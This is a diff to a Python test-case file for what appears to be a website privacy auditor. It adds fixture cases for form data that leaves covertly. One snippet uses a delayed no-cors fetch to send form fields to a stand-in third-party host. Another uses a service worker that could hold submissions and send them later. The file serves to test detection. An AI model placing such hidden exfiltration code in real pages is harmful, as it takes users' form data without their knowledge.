@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 from portevoix.auditor.engine.types import Criterion
-from tests.auditor.cases.site import FORM, Case, bad, good, page_with, script
+from tests.auditor.cases.site import FORM, SCRIPT, Case, bad, document, good, page_with, script
 from tests.auditor.town import Reply
 
 TO = "https://collecte.tiers.example"
@@ -169,6 +169,15 @@ def clicked(code: str, told: str = TOLD) -> dict[str, object]:
     return page_with(f"<main>{ORPHANS.replace('</div>', f'{told}</div>')}</main>{script(way)}")
 
 
+def kept_back() -> dict[str, object]:
+    """Return a page whose worker could keep what a form sends, and send it another day."""
+    claims = 'addEventListener("activate",e=>e.waitUntil(clients.claim()));addEventListener("fetch",()=>{})'
+    ready = script('navigator.serviceWorker.register("/sw.js")')
+    contact = Reply(document("Contact", f"<h1>Contact</h1>{FORM}"))
+    pages = {"/sw.js": Reply(claims, SCRIPT), "/contact": contact}
+    return {"home": f'<a href="/contact">Nous contacter</a>{ready}', "pages": pages}
+
+
 ELSEWHERE = "form-to-third-party"
 SCRIPTED: tuple[Case, ...] = (
     bad(
@@ -218,6 +227,12 @@ SCRIPTED: tuple[Case, ...] = (
     ),
     bad("form-that-nothing-leaves", "form-not-followed", **sends("window.kept=d")),
     bad("fields-that-nothing-leaves", "form-not-followed", **page_with(ORPHANS.replace("</div>", f"{TOLD}</div>"))),
+    bad(
+        "form-sent-much-later",
+        "form-not-followed",
+        **sends(f'setTimeout(()=>fetch("{TO}/f",{{method:"POST",mode:"no-cors",body:new URLSearchParams(d)}}),1700)'),
+    ),
+    bad("form-behind-a-service-worker", "form-not-followed", **kept_back()),
     good("form-by-fetch-at-home", **sends('fetch("/contact",{method:"POST",body:d})')),
     good("form-by-fetch-then-native", **sends('await fetch("/jeton");e.target.submit()')),
 )
